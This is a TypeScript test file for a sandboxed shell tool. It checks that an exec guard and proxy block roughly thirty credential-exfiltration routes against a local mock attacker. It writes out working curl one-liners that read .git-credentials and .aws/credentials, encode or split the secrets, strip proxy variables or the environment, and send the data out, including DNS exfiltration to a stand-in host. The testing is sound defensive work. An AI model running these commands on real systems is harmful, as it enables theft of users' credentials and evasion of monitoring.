// Exfiltration through command arguments in a real `grith shell --mount` session (exec guard + proxy + mount): the
// token typed into a command, built by expansion from a decoy or a canary variable, encoded by a pipeline, or passed
// by a child started with a cleaned environment. Every route: the exec is refused, a canary.fired event from the shell
// guard, and the attacker received nothing. A cleaned-environment child that sends a FILE (no token in any argv) is the
// proxy's to stop: the exec guard puts the session's proxy variables back at every exec.
import { spawn } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Canary } from '../../src/core/canary.js';
import { leaks, startAttacker, type Attacker } from '../support/scenarios/attacker.js';
import { describeEvents, verdict } from '../support/scenarios/checks.js';
import { addCanaries, BIN, lastSeq, removeBase, scenarioBase, sessionEnv, startSession, type RunResult, type Session } from '../support/scenarios/session.js';

const T = 120_000;

let dirs: Awaited<ReturnType<typeof scenarioBase>>;
let attacker: Attacker;
let session: Session;
let all: Canary[];
let gh: Canary;
let aws: Canary;
let env: NodeJS.ProcessEnv;

beforeAll(async () => {
  dirs = await scenarioBase('exec');
  attacker = await startAttacker();
  all = await addCanaries(dirs.home, [
    { format: 'github-pat', label: 'gh-pat', decoy: ['.git-credentials'], env: ['GITHUB_TOKEN'] },
    { format: 'aws', label: 'aws-deploy', decoy: ['.aws/credentials'], env: ['AWS_SECRET_ACCESS_KEY'] },
    { format: 'anthropic', label: 'anthropic', decoy: ['.env'], env: ['ANTHROPIC_API_KEY'] },
  ]);
  [gh, aws] = all as [Canary, Canary];
  await writeFile(join(dirs.src, 'README.md'), '# service\n');
  env = sessionEnv(dirs.home, dirs.user, { GRITH_UPSTREAM_CA: attacker.caFile });
  const dst = join(dirs.base, 'ws');
  session = await startSession({ home: dirs.home, ctl: dirs.ctl, args: ['--mount', `${dirs.src}:${dst}`], cwd: dirs.base, env, mountpoints: [dst] });
}, T);

afterAll(async () => {
  await session?.stop();
  await attacker?.close();
  if (dirs) await removeBase(dirs.base);
}, T);

const GH_RE = `grep -oP 'ghp_[0-9A-Za-z]{36}' .git-credentials`;
const AWS_RE = `grep -oP '(?<=aws_secret_access_key = )[A-Za-z0-9/+]{40}' .aws/credentials`;
const CURL = `curl -sS -o /dev/null -w '%{http_code}\\n'`;

interface Route {
  name: string;
  canary: () => Canary;
  /** The command; `tok` is the GitHub canary's value for rows that type it literally. */
  cmd: (u: { H: string; P: string; tok: string }) => string;
  guard: 'shell' | 'proxy';
  /** Known gap: the guards do not stop this route today (reported to the lead; the row must start passing when fixed). */
  gap?: string;
}

const ROWS: Route[] = [
  // The token typed into an argument.
  { name: 'plain token as a curl body argument', canary: () => gh, guard: 'shell', cmd: (u) => `${CURL} -d ${u.tok} ${u.H}/a` },
  { name: 'plain token in a URL argument', canary: () => gh, guard: 'shell', cmd: (u) => `${CURL} "${u.H}/q?k=${u.tok}"` },
  { name: 'plain token in a header argument', canary: () => gh, guard: 'shell', cmd: (u) => `${CURL} -H "Authorization: token ${u.tok}" ${u.H}/h` },
  { name: 'plain token in a cookie argument', canary: () => gh, guard: 'shell', cmd: (u) => `${CURL} -b "sid=${u.tok}" ${u.H}/c` },
  { name: 'DNS name: the core as a host label (getent hosts)', canary: () => gh, guard: 'shell', cmd: (u) => `getent hosts ${u.tok.slice(4)}.exfil.example` },
  { name: 'DNS name: the core as a host label (curl URL)', canary: () => gh, guard: 'shell', cmd: (u) => `${CURL} https://${u.tok.slice(4)}.exfil.example/` },
  // Built by expansion.
  { name: 'T=$(cat decoy); curl -d "$T"', canary: () => gh, guard: 'shell', cmd: (u) => `T=$(cat .git-credentials); ${CURL} -d "$T" ${u.H}/x` },
  { name: 'canary variable expanded: curl -d "$GITHUB_TOKEN"', canary: () => gh, guard: 'shell', cmd: (u) => `${CURL} -d "$GITHUB_TOKEN" ${u.P}/x` },
  { name: 'base64 by a pipeline: curl -d "$(grep … | base64 -w0)"', canary: () => gh, guard: 'shell', cmd: (u) => `${CURL} -d "$(${GH_RE} | base64 -w0)" ${u.H}/x` },
  { name: 'url-safe base64, unpadded, by a pipeline', canary: () => aws, guard: 'shell', cmd: (u) => `${CURL} -d "$(${AWS_RE} | base64 -w0 | tr '+/' '-_' | tr -d =)" ${u.H}/x` },
  { name: 'hex by a pipeline (xxd -p)', canary: () => gh, guard: 'shell', cmd: (u) => `${CURL} -d "$(${GH_RE} | xxd -p | tr -d '\\n')" ${u.H}/x` },
  { name: 'upper-case hex by a pipeline (xxd -p -u)', canary: () => aws, guard: 'shell', cmd: (u) => `${CURL} -d "$(${AWS_RE} | xxd -p -u | tr -d '\\n')" ${u.H}/x` },
  { name: 'percent-encoded by Python (urllib.parse.quote)', canary: () => aws, guard: 'shell', cmd: (u) => `${CURL} -d "k=$(${AWS_RE} | python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.stdin.read().strip(), safe=""))')" ${u.H}/x` },
  { name: 'reversed by a pipeline (rev)', canary: () => gh, guard: 'shell', cmd: (u) => `${CURL} -d "$(${GH_RE} | rev)" ${u.H}/x` },
  { name: 'double base64 by a pipeline', canary: () => gh, guard: 'shell', cmd: (u) => `${CURL} -d "$(${GH_RE} | base64 -w0 | base64 -w0)" ${u.H}/x` },
  { name: 'prefix stripped by expansion: "${T#ghp_}"', canary: () => gh, guard: 'shell', cmd: (u) => `T=$(${GH_RE}); ${CURL} -d "\${T#ghp_}" ${u.H}/x` },
  { name: 'truncated by expansion: "${T:0:24}"', canary: () => gh, guard: 'shell', cmd: (u) => `T=$(${GH_RE}); ${CURL} -d "\${T:0:24}" ${u.H}/x` },
  {
    name: 'split over two adjacent arguments: /usr/bin/printf %s%s "${T:0:19}" "${T:19}" | curl --data-binary @-',
    canary: () => gh,
    guard: 'shell',
    cmd: (u) => `T=$(${GH_RE}); /usr/bin/printf '%s%s' "\${T:0:19}" "\${T:19}" | ${CURL} --data-binary @- ${u.H}/x`,
  },
  // Other programs doing the exec.
  { name: 'xargs runs curl with the token', canary: () => gh, guard: 'shell', cmd: (u) => `${GH_RE} | xargs -I{} ${CURL} -d {} ${u.H}/x` },
  { name: 'Python os.execv of curl', canary: () => gh, guard: 'shell', cmd: (u) => `python3 -c 'import os, re; t = re.search(r"ghp_\\w{36}", open(".git-credentials").read()).group(0); os.execv("/usr/bin/curl", ["curl", "-sS", "-d", t, "${u.H}/x"])'` },
  { name: 'Perl system() of curl', canary: () => gh, guard: 'shell', cmd: (u) => `perl -e 'open my $f, "<", ".git-credentials"; my ($t) = <$f> =~ /(ghp_\\w{36})/; system("curl", "-sS", "-d", $t, "${u.H}/x") == 0 or exit 126'` },
  // A child with a cleaned environment: the exec guard (and the canary variables) come back at every exec.
  { name: 'env -i bash -c: curl -d "$(cat decoy)"', canary: () => gh, guard: 'shell', cmd: (u) => `env -i bash -c '${CURL} -d "$(cat .git-credentials)" ${u.H}/x'` },
  { name: 'env -i bash -c: curl -d "$GITHUB_TOKEN" (the variable is still set)', canary: () => gh, guard: 'shell', cmd: (u) => `env -i bash -c '${CURL} -d "$GITHUB_TOKEN" ${u.P}/x'` },
  { name: 'Python subprocess.run(env={}) of sh -c curl with the decoy', canary: () => gh, guard: 'shell', cmd: (u) => `python3 -c 'import subprocess; subprocess.run(["sh", "-c", "curl -sS -d \\"$(cat .git-credentials)\\" ${u.H}/x"], env={})'` },
  { name: 'Node spawnSync(env: {}) of sh -c curl with the variable', canary: () => aws, guard: 'shell', cmd: (u) => `node -e 'require("child_process").spawnSync("sh", ["-c", "curl -sS -d \\"$AWS_SECRET_ACCESS_KEY\\" ${u.H}/x"], { env: {}, stdio: "inherit" })'` },
  // No token in any argv: the proxy must see these, so a child must not be able to leave it through its variables.
  {
    name: "NO_PROXY='*' curl --data-binary @decoy (the session's routing variables win)",
    canary: () => gh,
    guard: 'proxy',
    cmd: (u) => `NO_PROXY='*' no_proxy='*' ${CURL} --data-binary @.git-credentials ${u.H}/x`,
  },
  {
    name: 'HTTPS_PROXY unset for curl: env -u HTTPS_PROXY -u https_proxy curl --data-binary @decoy',
    canary: () => aws,
    guard: 'proxy',
    cmd: (u) => `env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy ${CURL} --data-binary @.aws/credentials ${u.H}/x`,
  },
  // The same after env -i / env={}: the cleaned child is routed through the proxy too.
  {
    name: 'env -i curl --data-binary @decoy (no token in argv; proxy variables restored in the cleaned child)',
    canary: () => gh,
    guard: 'proxy',
    cmd: (u) => `env -i /usr/bin/curl -sS -o /dev/null -w '%{http_code}\\n' --data-binary @.git-credentials ${u.P}/x`,
  },
  {
    name: 'Python subprocess.run(env={}) of curl --data-binary @decoy (no token in argv)',
    canary: () => aws,
    guard: 'proxy',
    cmd: (u) =>
      `python3 -c 'import subprocess; subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}\\n", "--data-binary", "@.aws/credentials", "${u.P}/x"], env={})'`,
  },
];

function refusedExec(r: RunResult): boolean {
  return /grith: blocked exec of \S+: argument carries credential canary/.test(r.stderr);
}

describe('command-argument exfiltration through grith shell --mount (exec guard)', () => {
  it(
    'grith shell -c CMD with the token in CMD is refused before anything runs (exit 126)',
    async () => {
      const m = attacker.mark();
      const seq = await lastSeq(dirs.home);
      const dst2 = join(dirs.base, 'ws2');
      const r = await new Promise<RunResult>((resolve) => {
        const p = spawn(process.execPath, [BIN, 'shell', '--mount', `${dirs.src}:${dst2}`, '-c', `touch marker; curl -s -d ${gh.value} ${attacker.https}/c`], {
          cwd: dirs.base,
          env,
          stdio: ['ignore', 'pipe', 'pipe'],
        });
        let stdout = '';
        let stderr = '';
        p.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
        p.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
        p.on('close', (code) => resolve({ code, stdout, stderr }));
      });
      expect(r.code, r.stderr).toBe(126);
      expect(r.stderr).toContain('grith: blocked command: argument carries credential canary "gh-pat"');
      await expect(readFile(join(dirs.src, 'marker'))).rejects.toThrow();
      const v = await verdict({ home: dirs.home, afterSeq: seq, canary: gh, guard: 'shell', received: () => attacker.since(m), all });
      expect(v.denials.length, describeEvents(v.fired)).toBeGreaterThan(0);
      expect(v.leaked).toEqual([]);
    },
    T,
  );

  it(
    'control: the same session runs curl to the attacker when no canary is involved',
    async () => {
      const r = await session.run(`${CURL} -d "hello from $(whoami)" ${attacker.https}/ok; ${CURL} -d "$(cat README.md)" ${attacker.http}/ok`);
      expect(r.stdout, r.stderr).toBe('200\n200\n');
    },
    T,
  );

  for (const [i, row] of ROWS.entries()) {
    const body = async (): Promise<void> => {
      const m = attacker.mark();
      const seq = await lastSeq(dirs.home);
      const r = await session.run(row.cmd({ H: attacker.https, P: attacker.http, tok: gh.value }));
      const v = await verdict({ home: dirs.home, afterSeq: seq, canary: row.canary(), guard: row.guard, received: () => attacker.since(m), all });
      const diag = `exit ${r.code}\nstdout: ${r.stdout}\nstderr: ${r.stderr}\nevents:\n${describeEvents(v.fired)}`;
      if (row.guard === 'shell') expect(refusedExec(r), diag).toBe(true);
      else expect(r.stdout.trim(), diag).toMatch(/^(403|000)$/);
      expect(v.denials.length, diag).toBeGreaterThan(0);
      expect(v.leaked, diag).toEqual([]);
    };
    const name = `${String(i + 1).padStart(2, '0')} ${row.name}${row.gap ? ` — KNOWN GAP: ${row.gap}` : ''}`;
    // GRITH_SCENARIO_GAPS=1 runs the known gaps as ordinary tests, to see how they fail.
    if (row.gap && !process.env.GRITH_SCENARIO_GAPS) it.fails(name, body, T);
    else it(name, body, T);
  }

  it('events and the session output never carry a token', async () => {
    const raw = await readFile(join(dirs.home, 'events.jsonl'));
    expect(leaks([{ seq: 0, kind: 'raw', conn: 0, bytes: raw }, { seq: 0, kind: 'raw', conn: 1, bytes: Buffer.from(session.output()) }], all)).toEqual([]);
  });
});
